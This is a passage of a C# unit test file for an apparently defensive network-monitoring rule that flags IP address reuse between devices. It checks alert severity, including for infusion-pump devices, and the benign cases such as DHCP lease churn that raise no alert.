    public void Whose_address_it_was_says_how_bad_it_is()
    {
        Severity Of(DeviceFacts old, bool isLeased = false, long silent = 60) => new Scene().Later(TimeSpan.FromDays(60)).Knows(old).Moves("10.0.9.9", A, B, silent, isLeased: isLeased).Passes(TimeSpan.FromMinutes(6)).Fires("address-reused").Severity;
        Assert.Equal(Severity.Low, Of(Old()));
        Assert.Equal(Severity.Info, Of(Old(), silent: 40 * 86_400));
        Assert.Equal(Severity.Medium, Of(Old() with { IsKnownToPeople = true }));
        Assert.Equal(Severity.Medium, Of(Old() with { Category = "infusion" }, silent: 40 * 86_400));
        Assert.Equal(Severity.Low, Of(Old() with { Category = "infusion" }, isLeased: true));
    }

    [Fact]
    public void The_churn_of_a_pool_a_new_card_and_two_on_one_address_are_no_reuse()
    {
        TimeSpan later = TimeSpan.FromMinutes(6);
        new Scene().Knows(Old() with { Category = "infusion" }).Moves("10.0.9.9", A, B, wasLeased: true, isLeased: true).Passes(later).IsSilent();
        new Scene().Knows(Old()).Moves("10.0.9.9", A, B, isLeased: true).Passes(later).IsSilent();
        new Scene().Knows(Old() with { Ips = [Scene.Ip("10.0.9.9")] }).Moves("10.0.9.9", A, B).Passes(later).IsSilent();
        new Scene().Knows(Old()).Moves("10.0.9.9", A, B).Moves("10.0.9.9", B, A, isBack: true).Passes(later).IsSilent();
        new Scene().Moves("10.0.9.9", A, B).Passes(later).IsSilent();
        new Scene().Knows(Old()).Moves("10.0.9.9", A, B).Passes(TimeSpan.FromMinutes(4)).IsSilent();
    }

    private static DeviceFacts Old() => new() { Id = 7, Name = "Old PC", Subject = Subject.Of(Scene.Mac(A), default) };

    private static DeviceFacts New() => new() { Id = 8, Name = "New PC", Subject = Subject.Of(Scene.Mac(B), default), Ips = [Scene.Ip("10.0.9.9")] };

    private static PublishedService Service(int first, int? last = null) => new(Scene.Ip("203.0.113.5"), first, last ?? first, Scene.Ip("10.0.9.9"), first, last ?? first, Carrier.Tcp, "web", 2);

    private static DeviceFacts Pump() => new() { Id = 4, Name = "Pump 4", Type = "infusion-pump", Category = "infusion", Subject = Subject.Of(default, Scene.Ip("10.0.9.9")), Ips = [Scene.Ip("10.0.9.9")] };

    private static Scene Many(int times, Action<Scene> what)
    {
        Scene scene = new();
        for (int i = 0; i < times; i++) what(scene);
        return scene;
    }

    private sealed class Empty : IDeviceDirectory
    {
        public bool HasRegister => false;

        public DeviceFacts? Of(Subject subject) => null;

        public IEnumerable<DeviceFacts> All() => [];
    }
}
